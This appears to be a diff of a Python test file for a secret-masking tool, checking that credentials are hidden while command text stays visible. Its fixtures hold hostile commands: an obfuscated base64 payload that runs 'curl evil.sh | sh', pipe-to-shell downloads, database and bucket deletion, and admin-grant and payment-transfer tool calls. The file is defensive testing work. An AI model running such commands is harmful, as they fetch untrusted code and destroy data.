@@ -7,9 +7,11 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
+from hub.domain.canonical import visible
 from hub.domain.masking import mask
 
 STRONG = "aZ3kQ9xW2bN7mK4pL8vRtY6u"
+HEX = "0f1e2d3c4b5a69788796a5b4"
 GITHUB = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
 NPM = "npm_aB3dE5gH7jK9mN2pQ4rS6tU8vW1xY3zA5bC7"
 HUGGING_FACE = "hf_AbQdEfGhIjKLmNOpqRStUvWXyzABcdEFgh"
@@ -44,7 +46,6 @@ NOTHING_HIDDEN = (
     "OLDPWD=prod1db; cd - && rm -rf data",
     "make PWD=prod1db clean",
     'python3 -c \'token="prod1db"; import os; os.system("dropdb "+token)\'',
-    'python3 -c \'token="prod1db"; import os; os.system("dropdb "+\uff54oken)\'',
     'python3 -c \'token="prod1db"; import os; os.system(f"dropdb {token:s}")\'',
     'python3 -c \'token="prod1db"; import os\nfor d in dbs:\n if d == token: os.system("dropdb "+d)\'',
     "python3 -c 'import os, sys; os.system(\"dropdb \" + sys.argv[2])' --token prod1db",
@@ -79,15 +80,53 @@ NOTHING_HIDDEN = (
     "skopeo delete docker://nginx:v1x@sha256:3f786850e387550f",
 )
 
+PROGRAM = "aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBldmlsLnNoIHwgc2gnKQ"
+"""A program in base64: as long and mixed as a token."""
+COMPUTED = (
+    f"python3 -c \"import base64;token='{PROGRAM}';exec(base64.b64decode(token+'=='))\"",
+    f"echo token={PROGRAM} | cut -d= -f2 | base64 -d | sh",
+    f"API_TOKEN={PROGRAM} bash -c 'env|sed -n s/^API_TO.*=//p|base64 -d|sh'",
+    f"node -e \"const token = '{PROGRAM}'; eval(atob(token))\"",
+    f"python3 - <<E\ntoken='{PROGRAM}'\nE",
+    f"export GH_TOKEN=ghp_{PROGRAM[:36]}; python3 x.py; echo ${{!GH*}}",
+    "PASSWORD=prod1db env | awk -F= '/^PASS/{print $2}' | xargs dropdb",
+    "DB_PASSWORD=customers2024 env | grep ^DB_P | cut -d= -f2 | xargs -I{} aws s3 rb s3://{} --force",
+    "set -- password=prod1db; dropdb ${1#*=}",
+    "echo password=prod1db | { IFS== read a b; dropdb $b; }",
+    "password=prod1db; for v in ${!pass*}; do dropdb ${!v}; done",
+    "password=prod1db; eval dropdb '$pass'word",
+    "curl -u bob:hunter2x https://x.y/run | sh",
+)
+NAMES_OF_THINGS = (
+    'Use mcp__vault__delete_secret {"secret": "customers2024"}',
+    'Use mcp__auth__grant_admin {"credential": "eve9evil"}',
+    "vault kv delete secret=customers2024",
+    "kubectl delete -f - <<E\nsecret: customers2024\nE",
+    'curl -d \'{"secret":"customers2024","op":"delete"}\' https://x.y',
+    "heroku pg:reset --token prod1db",
+    "curl -d 'token=USDC2&credential=eve9evil&amount=100' https://pay.example/transfer",
+)
 
-@pytest.mark.parametrize("text", NOTHING_HIDDEN)
-def test_of_a_command_nothing_is_hidden(text: str) -> None:
+
+@pytest.mark.parametrize("text", COMPUTED)
+def test_a_text_that_computes_with_its_words_is_shown_whole(text: str) -> None:
+    assert visible(text) == text
+    assert visible("PASSWORD=prod1db", text) == "PASSWORD=prod1db", "also what runs together with it"
+
+
+@pytest.mark.parametrize("text", NAMES_OF_THINGS)
+def test_what_is_too_short_for_a_token_is_the_name_of_a_thing(text: str) -> None:
     assert mask(text) == text
 
 
+@pytest.mark.parametrize("text", NOTHING_HIDDEN)
+def test_of_a_command_nothing_is_hidden(text: str) -> None:
+    assert visible(text) == text
+
+
 STAYS_HIDDEN = (
-    ("hunter2x", 'curl -H "X-Api-Key: {}" https://x.y'),
-    ("hunter2x", "curl -H X-Auth-Token:{} https://x.y"),
+    (HEX, 'curl -H "X-Api-Key: {}" https://x.y'),
+    (HEX, "curl -H X-Auth-Token:{} https://x.y"),
     ("a8Zk3Lq9Xw2", 'curl -H "Authorization: Bearer {}" https://x.y'),
     ("a8Zk3Lq9Xw2x7Yq4z", 'fetch(url, {{headers: h("Bearer {}")}})'),
     ("Ym9iOmh1bnRlcjI", "curl -H 'Authorization: Basic {}' https://x.y"),
@@ -105,20 +144,20 @@ STAYS_HIDDEN = (
     ("hunter2x", "docker login --username bob --password {} registry.example.org"),
     ("hunter2x", "PGPASSWORD={} psql -h db shop"),
     ("hunter2x", "export PGPASSWORD={}; psql -h db shop"),
-    ("hunter2x", "TOKEN={}; export TOKEN; ./deploy"),
-    ("hunter2x", "deploy --token={} --to prod"),
-    ("hunter2x", "deploy --token {} --to prod"),
-    ("hunter2x", "deploy --access-token '{}' --to prod"),
-    ("hunter2x", "az login --service-principal --client-secret {}"),
-    ("hunter2x", "deploy --client-secret={}"),
+    (HEX, "TOKEN={}; export TOKEN; ./deploy"),
+    (HEX, "deploy --token={} --to prod"),
+    (HEX, "deploy --token {} --to prod"),
+    (HEX, "deploy --access-token '{}' --to prod"),
+    (HEX, "az login --service-principal --client-secret {}"),
+    (HEX, "deploy --client-secret={}"),
     ("hunter2x", "gpg --batch --passphrase {} -d a.gpg"),
-    ("hunter2x", "deploy -token {}"),
+    (HEX, "deploy -token {}"),
     ("hunter2x", "svn checkout --password {} https://x.y | awk '{{print $1}}'"),
     ("hunter2x", "kubectl create secret generic a --from-literal=password={}"),
     ("hunter2x", "docker run -e DB_PASSWORD={} image"),
     ("hunter2x", "DB_HOST=db\nDB_PASSWORD={}\nDB_NAME=prod1db"),
-    ("s3cr3tx", "JWT_SECRET={}\nPORT=80"),
-    ("hunter2x", 'API_KEY="{}"'),
+    (HEX, "JWT_SECRET={}\nPORT=80"),
+    (HEX, 'API_KEY="{}"'),
     ("hunter2x", '{{"user": "bob", "password": "{}", "db": "prod1db"}}'),
     ("hunter2x", '{{"password":"{}"}}'),
     ("hunter2x", 'curl -d "{{\\"password\\":\\"{}\\"}}" https://x.y'),
@@ -126,15 +165,14 @@ STAYS_HIDDEN = (
     ("hunter2x", "db:\n  host: db1.example.org\n  password: {}\n  token: ${{TOKEN}}"),
     ("hunter2x", "[db]\npassword = {}"),
     ("hunter2x", '-password = "{}"\n+password = os.environ["DB_PASSWORD"]'),
-    ("hunter2x", "-  token: {}\n+  token: $TOKEN"),
+    (HEX, "-  token: {}\n+  token: $TOKEN"),
     ("hunter2x", 'password = "{}"\nconnect(user=user, password=password)'),
-    ("hunter2x", "token = '{}'\nheaders = {{'Authorization': f'Bearer {{token}}'}}"),
+    (HEX, "token = '{}'\nheaders = {{'Authorization': f'Bearer {{token}}'}}"),
     ("hunter2x", "postgres://bob:{}@db.example.org/shop"),
     ("hunter2x", "git clone https://bob:{}@example.org/a"),
-    ("hunter2x", "curl 'https://x.y/z?user=bob&token={}&page=2'"),
+    (HEX, "curl 'https://x.y/z?user=bob&token={}&page=2'"),
     (STRONG, "gcloud secrets add --secret={}"),
     (STRONG, "deploy --rotate-token {}"),
-    (STRONG, "python3 -c 'token=\"{}\"; send(token)'"),
     ("0x" + "ac0974bec39a17e3" * 4, "cast send --private-key {} 0x71C7656EC7ab88b098defB751B7401B5f6d8976F"),
     (NPM[4:], "npm config set //registry.example.org/:_authToken npm_{}"),
     (NPM, "//registry.example.org/:_authToken={}"),
@@ -195,11 +233,11 @@ def test_no_command_of_everyday_words_hides_any_of_them(made: list[str]) -> None
 
 
 SHAPES = (
-    "deploy --token {}",
+    "deploy --password {}",
     "deploy --password={}",
     "DB_PASSWORD={} ./run",
-    '{{"token": "{}"}}',
-    "token: {}",
+    '{{"password": "{}"}}',
+    "password: {}",
     "https://me:{}@host/x",
     "curl -u me:{} https://x.y",
     "mysql -p{} shop",
@@ -217,7 +255,7 @@ LETTERS = string.ascii_letters + string.digits
 )
 def test_a_made_secret_is_hidden_where_one_is_expected(made: str, shape: str, before: str, after: str) -> None:
     made = f"{made}x7"
-    begun = "\n" if shape.startswith("token") else before
+    begun = "\n" if shape.startswith("password:") else before
     assert made not in mask(f"{begun}{shape.format(made)}{after}")
 
 
